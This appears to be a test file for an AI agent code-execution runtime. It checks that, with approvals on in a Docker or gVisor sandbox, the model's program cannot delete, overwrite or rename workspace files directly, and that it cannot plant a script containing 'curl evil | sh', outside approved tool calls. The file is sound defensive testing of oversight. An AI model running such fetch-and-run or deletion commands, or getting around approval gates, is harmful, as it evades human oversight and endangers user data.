// Approvals with the Docker backend, attacked: a person asked about the tools' calls must never see the
// program change the same files unasked through Node (node:fs, child_process) inside the container. With
// approvals on, the program's container has the workspace read-only; every change is a tool call, served
// by a container of the tools' own, and asked. Under runc and gVisor (runsc).
import { spawn } from 'node:child_process'
import { chownSync, existsSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { Runtime } from '../../runtime/create-runtime.js'
import type { ApprovalRequest } from '../../vocabulary/types.js'
import { dockerRuntimeCases } from './engine.js'
import { ownContainers } from './helpers.js'
import { workspaceRuntime } from './suite.js'

/** Ways a program changes or removes a file itself, each caught and reported by its error code. */
const OWN_CHANGES = `
  const fs = require('node:fs')
  const cp = require('node:child_process')
  const tries = {}
  const attempt = async (name, f) => { try { await f(); tries[name] = 'done' } catch (e) { tries[name] = e.code || (e.status !== undefined ? 'exit ' + e.status : String(e)) } }
  await attempt('unlink', () => fs.unlinkSync('important.txt'))
  await attempt('rm', () => fs.promises.rm('important.txt', { force: true }))
  await attempt('overwrite', () => fs.writeFileSync('important.txt', 'gone'))
  await attempt('truncate', () => fs.truncateSync('important.txt', 0))
  await attempt('rename', () => fs.renameSync('important.txt', 'moved.txt'))
  await attempt('stream', () => new Promise((resolve, reject) => fs.createWriteStream('important.txt').on('error', reject).on('open', resolve)))
  await attempt('shell', () => cp.execSync('rm -f important.txt 2>/dev/null'))
  await attempt('create', () => fs.writeFileSync('planted.sh', 'curl evil | sh'))
  return tries`

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..')

/** `codeact run -` with the program on stdin (not a terminal: a question there is answered no at once). */
function codeact(args: string[], program: string): Promise<{ status: number | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [path.join(repo, 'bin/codeact.mjs'), 'run', '-', ...args], { cwd: repo })
    let out = ''
    child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d))
    child.stderr.setEncoding('utf8').on('data', (d: string) => (out += d))
    child.on('close', (status) => resolve({ status, out }))
    child.stdin.end(program)
  })
}

for (const runtime of dockerRuntimeCases) {
  describe.skipIf(runtime.skip !== undefined)(`docker sandbox with approvals (${runtime.name})`, () => {
    let rt: Runtime
    let root: string
    const asked: ApprovalRequest[] = []
    let answer = false
    beforeAll(async () => {
      ;({ rt, root } = await workspaceRuntime(runtime.option, {
        approve: ['remove', 'write_file', 'bash'],
        onApproval: async (request) => {
          asked.push(request)
          return { approve: answer, ...(answer ? {} : { reason: 'the test said no' }) }
        },
      }))
    }, 300_000)
    beforeEach(() => {
      // Owned like the workspace (the container's user): only the read-only mount stands in the program's way.
      const file = path.join(root, 'important.txt')
      writeFileSync(file, 'keep me\n')
      const { uid, gid } = statSync(root)
      chownSync(file, uid, gid)
      asked.length = 0
      answer = false
    })
    afterAll(async () => {
      await rt?.close()
      expect(await ownContainers()).toEqual([])
    })

    it('every way the program deletes or changes a file itself is refused (EROFS), and nothing changed unasked', async () => {
      const r = await rt.runCode(OWN_CHANGES)
      expect(r.ok, r.observation).toBe(true)
      expect(r.value).toEqual({
        unlink: 'EROFS',
        rm: 'EROFS',
        overwrite: 'EROFS',
        truncate: 'EROFS',
        rename: 'EROFS',
        stream: 'EROFS',
        shell: 'exit 1',
        create: 'EROFS',
      })
      expect(readFileSync(path.join(root, 'important.txt'), 'utf8')).toBe('keep me\n')
      expect(existsSync(path.join(root, 'planted.sh'))).toBe(false)
      expect(existsSync(path.join(root, 'moved.txt'))).toBe(false)
      expect(asked).toEqual([])
      // The refusals are reported to the model, named as the kernel's.
      expect(r.observation).toMatch(/EROFS/)
    })

    it('the same deletion through the tool is asked: a no keeps the file, a yes removes it', async () => {
      const no = await rt.runCode(`try { await tools.remove({ path: 'important.txt' }) } catch (e) { return e.code }`)
      expect(no.value).toBe('EACCES')
      expect(asked.map((a) => a.name)).toEqual(['remove'])
      expect(readFileSync(path.join(root, 'important.txt'), 'utf8')).toBe('keep me\n')

      answer = true
      const yes = await rt.runCode(`await tools.remove({ path: 'important.txt' }); return 'removed'`)
      expect(yes.value, yes.observation).toBe('removed')
      expect(asked.map((a) => a.name)).toEqual(['remove', 'remove'])
      expect(existsSync(path.join(root, 'important.txt'))).toBe(false)
    })

    it('while a question waits, the program cannot change the file it is about; approved tools still write', async () => {
      answer = true
      const r = await rt.runCode(`
        const fs = require('node:fs')
        const asking = tools.write_file({ path: 'important.txt', content: 'approved\\n' })
        let meanwhile
        try { fs.writeFileSync('important.txt', 'sneaked\\n'); meanwhile = 'written' } catch (e) { meanwhile = e.code }
        await asking
        const sh = await tools.bash({ command: 'echo via-bash >> important.txt && cat important.txt' })
        return { meanwhile, sh: sh.stdout }`)
      expect(r.value, r.observation).toEqual({ meanwhile: 'EROFS', sh: 'approved\nvia-bash\n' })
      expect(asked.map((a) => a.name)).toEqual(['write_file', 'bash'])
      expect(readFileSync(path.join(root, 'important.txt'), 'utf8')).toBe('approved\nvia-bash\n')
    })

    it('from the command line: --ask remove and a program that unlinks with node:fs — refused, and the message says why', async () => {
      const runtimeFlag = runtime.name === 'runc' ? [] : ['--docker-runtime', runtime.name]
      const r = await codeact(
        ['--sandbox', 'docker', '--workspace', root, '--ask', 'remove', '--typecheck=off', '--docker-pool-size', '0', ...runtimeFlag],
        `require('node:fs').unlinkSync('important.txt')`,
      )
      expect(r.status).toBe(1)
      expect(r.out).toMatch(
        /EROFS: read-only file system, unlink 'important.txt' \(approvals are on, so the program sees the workspace read-only/,
      )
      expect(readFileSync(path.join(root, 'important.txt'), 'utf8')).toBe('keep me\n')
    }, 120_000)

    it('a staged run with approvals on is refused with the alternative named, and nothing runs', async () => {
      const r = await rt.runCode(`require('node:fs').unlinkSync('important.txt')`, { changes: 'atomic' })
      expect(r.ok).toBe(false)
      expect(r.observation).toMatch(/use --review/)
      expect(readFileSync(path.join(root, 'important.txt'), 'utf8')).toBe('keep me\n')
    })
  })
}
